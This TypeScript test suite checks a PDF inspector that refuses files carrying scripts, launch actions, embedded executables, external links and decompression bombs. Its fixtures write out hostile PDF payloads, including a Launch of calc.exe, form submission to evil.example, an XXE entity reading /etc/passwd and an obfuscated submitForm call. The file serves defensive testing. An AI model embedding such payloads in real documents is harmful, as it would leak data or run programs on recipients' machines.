import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { describe, expect, test } from 'vitest';
import { plainFiles } from '#domain/files.testing.ts';
import { inspectPdf } from './inspect-pdf.ts';
import { type Packing, streamOf, writePdf } from './write-pdf.testing.ts';

const fixture = (name: string): Buffer => readFileSync(new URL(`../../../../tests/fixtures/${name}`, import.meta.url));
const problemOf = async (content: Uint8Array) => (await inspectPdf(content)).problem;

/** What another reader finds in a file. */
async function readAgain(content: Uint8Array) {
  const task = getDocument({ data: Uint8Array.from(content), verbosity: 0, useSystemFonts: true });
  try {
    const pdf = await task.promise;
    const page = await pdf.getPage(1);
    const annotations = await page.getAnnotations();
    const scripts = [await pdf.getJSActions(), await page.getJSActions(), await pdf.getFieldObjects()];
    return {
      pages: pdf.numPages,
      hasScript: (await pdf.hasJSActions()) || JSON.stringify(scripts).includes('alert'),
      files: [
        ...((await pdf.getAttachments()) ?? new Map<string, object>()).keys(),
        ...annotations.flatMap(({ file }) => (file ? [(file as { filename: string }).filename] : [])),
      ],
      links: annotations.flatMap(({ url }) => (url ? [url as string] : [])),
    };
  } finally {
    await task.destroy();
  }
}

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const packings: Packing[] = ['open', 'plain', 'deflated', 'predicted', 'twice', 'hex'];

describe.each(packings)('a PDF whose objects are written %s', (packing) => {
  const withAction = (action: string) => writePdf({ catalogue: '/OpenAction 4 0 R', objects: { 4: action }, packing });

  test('is accepted when it contains only a page', async () => {
    const content = writePdf({ packing });
    expect(await inspectPdf(content)).toEqual({ problem: null, eInvoice: null, withoutScripts: null });
    expect(await readAgain(content)).toMatchObject({ pages: 1, hasScript: false, files: [] });
  });

  test('is refused for a script, which an independent PDF reader finds too', async () => {
    expect(await problemOf(withAction(script))).toBe('script');
    expect(await readAgain(withAction(script))).toMatchObject({ hasScript: true });
  });

  test.each([
    ['a script by numbers', '<</#53/J#61vaScript/#4aS(app.alert\\(1\\))>>', 'script'],
    ['a script in a stream', '<</S/JavaScript/JS 5 0 R>>', 'script'],
    ['a rendition', '<</S/Rendition/OP 0/R 5 0 R>>', 'script'],
    ['a program', '<</S/Launch/F(calc.exe)>>', 'program'],
    ['data taken in', '<</S/ImportData/F(data.fdf)>>', 'program'],
    ['another file on a share', String.raw`<</S/GoToR/F(\\\\evil\\share\\x.pdf)/D[0/Fit]>>`, 'leaves'],
    ['a file inside of another', '<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>', 'leaves'],
    ['an address', '<</S/URI/URI(https://evil.example)>>', 'leaves'],
    ['a form that is sent', '<</S/SubmitForm/F(https://evil.example)>>', 'leaves'],
    [
      'an address behind a harmless action',
      '<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://e.example)>>]>>',
      'leaves',
    ],
    ['a place in the file', '<</S/GoTo/D[3 0 R/Fit]>>', null],
    ['printing', '<</S/Named/N/Print>>', null],
  ])('and that runs %s when opened: %s', async (_, action, problem) => {
    expect(await problemOf(withAction(action))).toBe(problem);
  });

  test.each([
    ['a form of scripts (XFA)', '/AcroForm<</Fields[]/XFA 4 0 R>>', '', 'xfa'],
    ['a script by its name', `/Names<</JavaScript<</Names[(x)4 0 R]>>>>`, '', 'script'],
    ['an address when the page opens', '', '/AA<</O<</S/URI/URI(https://e.example)>>>>', 'leaves'],
    ['a script when it is printed', `/AA<</WP ${script}>>`, '', 'script'],
    ['a film', '', '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]', 'file'],
    ['a link to the web', '', '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://ship.example)>>>>]', null],
    ['a link to a mail', '', '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(mailto:a@ship.example)>>>>]', null],
    ['a link to a file', '', '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file://evil/x)>>>>]', 'leaves'],
    [
      'a link to a share',
      '',
      String.raw`/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(\\\\evil\\x)>>>>]`,
      'leaves',
    ],
    ['words about JavaScript, Launch and /JS', '/Lang(JavaScript Launch /JS /XFA EmbeddedFile)', '', null],
    ['names that only begin alike', '/JavaScripts 1/Launcher 2/XFAs 3/EFs 4', '', null],
  ])('and that contains %s is judged as it should', async (_, catalogue, page, problem) => {
    const objects = {
      4: streamOf('/Filter/FlateDecode', deflateSync('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>')),
    };
    expect(await problemOf(writePdf({ catalogue, page, objects, packing }))).toBe(problem);
  });

  test('is refused for a program in an annotation, whatever the type of its stream', async () => {
    const content = writePdf({
      page: '/Annots[4 0 R]',
      objects: {
        4: '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>',
        5: '<</F(invoice.exe)/EF<</F 6 0 R>>>>',
        6: streamOf('', 'MZ'),
      },
      packing,
    });
    expect(await problemOf(content)).toBe('file');
    expect((await readAgain(content)).files).toEqual(['invoice.exe']);
  });
});

describe('an e-invoice inside of a PDF', () => {
  const xml = (root = 'rsm:CrossIndustryInvoice') =>
    `<?xml version="1.0"?>\n<!-- e --><${root} xmlns:rsm="urn:un">1</${root}>`;
  const withFile = (name: string, text: string, more: Record<number, string | Uint8Array> = {}) =>
    writePdf({
      catalogue: `/Names<</EmbeddedFiles<</Names[(${name})4 0 R]>>>>`,
      objects: {
        4: `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 5 0 R/UF 5 0 R>>>>`,
        5: streamOf('/Type/EmbeddedFile/Filter/FlateDecode', deflateSync(text)),
        ...more,
      },
      packing: 'deflated',
    });

  test('is accepted and named, as invoicing programs write it', async () => {
    const content = fixture('factur-x.pdf');
    expect(await inspectPdf(content)).toEqual({ problem: null, eInvoice: 'factur-x.xml', withoutScripts: null });
    expect((await readAgain(content)).files).toEqual(['factur-x.xml']);
    expect((await inspectPdf(withFile('ZUGFeRD-invoice.xml', xml('rsm:CrossIndustryDocument')))).eInvoice).toBe(
      'ZUGFeRD-invoice.xml',
    );
    expect((await inspectPdf(withFile('factur-x.xml', xml()))).eInvoice).toBe('factur-x.xml');
  });

  test.each([
    ['another name', withFile('invoice.exe', xml())],
    ['a program under its name', withFile('factur-x.xml', 'MZ')],
    ['a page under its name', withFile('factur-x.xml', '<html><script>alert(1)</script></html>')],
    [
      'entities',
      withFile('factur-x.xml', xml().replace('<!-- e -->', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
    ],
    [
      'a second file beside it',
      withFile('factur-x.xml', xml(), { 6: '<</F(run.exe)/EF<</F 7 0 R>>>>', 7: streamOf('', 'MZ') }),
    ],
    ['a file of no name beside it', withFile('factur-x.xml', xml(), { 7: streamOf('/Type/EmbeddedFile', 'MZ') })],
    [
      'a stream that was changed later',
      Buffer.concat([
        withFile('factur-x.xml', xml()),
        Buffer.from('5 0 obj\n'),
        streamOf('', 'MZ'),
        Buffer.from('\nendobj\n%%EOF\n'),
      ]),
    ],
  ])('with %s is refused', async (_, content) => {
    expect(await problemOf(content)).toBe('file');
  });
});

describe('a PDF form', () => {
  const form = (event: string, text: string) =>
    writePdf({
      catalogue: '/AcroForm<</Fields[4 0 R]/CO[4 0 R]>>',
      page: '/Annots[4 0 R]',
      objects: {
        4: `<</Type/Annot/Subtype/Widget/FT/Tx/T(total)/V(12.50)/Rect[0 0 90 20]/AA<</${event} 5 0 R>>>>`,
        5: `<</S/JavaScript/JS(${text.replaceAll(/[()]/g, (bracket) => `\\${bracket}`)})>>`,
      },
      packing: 'deflated',
    });

  test.each([
    ['F', 'AFNumber_Format(2, 0, 0, 0, "", true);'],
    ['K', 'AFDate_KeystrokeEx("yyyy-mm-dd");'],
    ['V', 'AFRange_Validate(true, 0, true, 100);'],
    ['C', 'AFSimple_Calculate("SUM", new Array ("a", "b"));'],
    ['C', 'event.value = AFMakeNumber(getField("a").value) * Math.round(getField("b").value);'],
  ])('that formats and calculates its fields (%s) is accepted without its scripts', async (event, text) => {
    const content = form(event, text);
    expect((await readAgain(content)).hasScript).toBe(true);
    const { problem, withoutScripts } = await inspectPdf(content);
    expect(problem).toBeNull();
    expect(await readAgain(withoutScripts!)).toMatchObject({ pages: 1, hasScript: false });
    expect(await inspectPdf(withoutScripts!)).toMatchObject({ problem: null, withoutScripts: null });
    const read = await PDFDocument.load(withoutScripts!, { updateMetadata: false });
    expect(read.getForm().getTextField('total').getText()).toBe('12.50');
    expect(read.getProducer()).toContain('scripts of the form fields are removed');
  });

  test.each([
    ['F', 'app.alert(1)'],
    ['C', 'this.submitForm("https://evil.example")'],
    ['C', 'var f = this["sub" + "mitForm"]; f("https://evil.example")'],
    ['U', 'AFNumber_Format(2, 0, 0, 0, "", true);'],
  ])('whose script does anything else (%s: %s) is refused', async (event, text) => {
    expect(await problemOf(form(event, text))).toBe('script');
  });

  test('with a script of the page beside those of its fields is refused', async () => {
    const content = writePdf({ page: `/AA<</C ${script}>>/T(x)` });
    expect(await problemOf(content)).toBe('script');
  });
});

describe('an encrypted PDF', () => {
  const encrypt = async (userPassword: string, edit: (pdf: PDFDocument) => void = () => {}) => {
    const pdf = await PDFDocument.create();
    pdf.addPage([200, 200]);
    edit(pdf);
    pdf.encrypt({ userPassword, ownerPassword: 'owner', permissions: { modifying: false } });
    return await pdf.save();
  };

  test('that opens without a password is accepted, and its hidden parts are inspected', async () => {
    expect(await problemOf(fixture('owner-restricted.pdf'))).toBeNull();
    expect((await readAgain(fixture('owner-restricted.pdf'))).pages).toBe(1);
    expect(await problemOf(await encrypt(''))).toBeNull();
    expect(await problemOf(await encrypt('', (pdf) => pdf.addJavaScript('x', 'app.alert(1)')))).toBe('script');
    expect(await problemOf(await encrypt('', (pdf) => void pdf.attach(Uint8Array.of(77, 90), 'x.exe')))).toBe('file');
  });

  test('that needs a password is refused, saying so', async () => {
    expect(await problemOf(await encrypt('secret'))).toBe('locked');
  });
});

describe('the file structure of a PDF', () => {
  test.each([
    ['a line before its head', writePdf({ before: '\r\n' }), null],
    ['the commands of a printer before its head', writePdf({ before: '\x1b%-12345X@PJL JOB\r\n' }), null],
    ['a kilobyte behind its end', writePdf({ after: 'x'.repeat(1000) }), null],
    ['zeros behind its end', writePdf({ after: '\0'.repeat(5000) }), null],
    ['its end too far away', writePdf({ after: 'x'.repeat(2000) }), 'damaged'],
    [
      'an archive behind it',
      Buffer.concat([writePdf({}), Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1')]),
      'damaged',
    ],
    [
      'a page of HTML in it',
      Buffer.concat([Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n'), writePdf({})]),
      'damaged',
    ],
    ['no end', writePdf({}).subarray(0, 300), 'damaged'],
    [
      'no page',
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
      ),
      'noPage',
    ],
    ['nothing in it', Buffer.from('%PDF-1.7\n%%EOF'), 'noPage'],
    [
      'pages that hold one another',
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]>>endobj\n%%EOF',
      ),
      'noPage',
    ],
    ['an empty object', Buffer.concat([plainFiles.PDF, Buffer.from('\n9 0 obj\nendobj\n%%EOF')]), null],
    ['letters of an object in a picture', writePdf({ objects: { 4: streamOf('', 'x obj <<(( 77 obj [') } }), null],
  ] as [string, Uint8Array, string | null][])('with %s', async (_, content, problem) => {
    expect(await problemOf(content)).toBe(problem);
  });

  test.each([
    ['in the body of a stream', streamOf('', `9 0 obj ${script} endobj`)],
    ['behind a comment', Buffer.from(`<<>>endobj\n9 % x\n0 obj ${script}`)],
    ['behind a comment of a page', Buffer.from(`<<>>endobj\n9 % ${'x'.repeat(5000)}\n0 obj ${script}`)],
    [
      'in a stream that says it is short',
      Buffer.from(`<</Length 3>>stream\nabc\nendstream\n9 0 obj ${script} endobj\nendstream`),
    ],
  ])('and a script %s is found', async (_, object) => {
    expect(await problemOf(writePdf({ objects: { 4: object } }))).toBe('script');
  });

  test.each([
    ['by a reference to its name', { 4: '<</S 5 0 R/F(cmd)>>', 5: '/Launch' }, 'program'],
    ['in a list without a type', { 4: streamOf('/N 1/First 4', '9 0 <</S/Launch/F(cmd)>>') }, 'program'],
    [
      'in a list with its filter by a reference',
      { 4: streamOf('/Type/ObjStm/N 1/First 4/Filter 5 0 R', deflateSync('9 0 <</S/Launch>>')), 5: '/FlateDecode' },
      'program',
    ],
    [
      'in a list that is cut short',
      {
        4: streamOf(
          '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
          deflateSync(`9 0 <</S/Launch>>${'x '.repeat(5000)}`).subarray(0, -10),
        ),
      },
      'program',
    ],
    ['by a name that stands twice', { 4: '<</S/GoTo/S/Launch>>' }, 'unreadable'],
    [
      'in a list that is not packed as it says',
      { 4: streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', '9 0 <<>>') },
      'unreadable',
    ],
    [
      'in a list of a strange filter',
      { 4: streamOf('/Type/ObjStm/N 1/First 4/Filter/DCTDecode', '9 0 <<>>') },
      'unreadable',
    ],
    ['in an object that cannot be read', { 4: '<</S /Launch' }, 'unreadable'],
    ['below a thousand brackets', { 4: '['.repeat(200_000) }, 'unreadable'],
    [
      'in a list that becomes huge',
      { 4: streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.alloc(100_000_000, 0x20))) },
      'unreadable',
    ],
  ] as [string, Record<number, string | Uint8Array>, string][])(
    'and a program %s is found or makes the file unreadable',
    async (_, objects, problem) => {
      expect(await problemOf(writePdf({ objects }))).toBe(problem);
    },
  );

  test.each([
    ['a stream of 400 MB', streamOf('/Filter/FlateDecode', deflateSync(Buffer.alloc(400_000_000)))],
    ['a stream packed twice', streamOf('/Filter[/Fl/Fl]', deflateSync(deflateSync(Buffer.alloc(100_000_000))))],
    [
      'a picture of 20,000 by 20,000',
      streamOf('/Subtype/Image/Width 20000/Height 20000/Filter/FlateDecode', deflateSync('x')),
    ],
  ])('and %s is refused', async (_, object) => {
    expect(await problemOf(writePdf({ objects: { 4: object } }))).toBe('huge');
  });
});

test.each([true, false])(
  'PDFs as a common library writes them are accepted, with object lists: %s',
  async (useObjectStreams) => {
    const pdf = await PDFDocument.create();
    pdf.addPage([300, 200]).drawText('Invoice 1 (obj, stream, /JS)');
    const field = pdf.getForm().createTextField('consignee');
    field.addToPage(pdf.addPage([300, 200]));
    field.setText('Lumen Radteile GmbH');
    expect(await problemOf(await pdf.save({ useObjectStreams }))).toBeNull();
  },
);
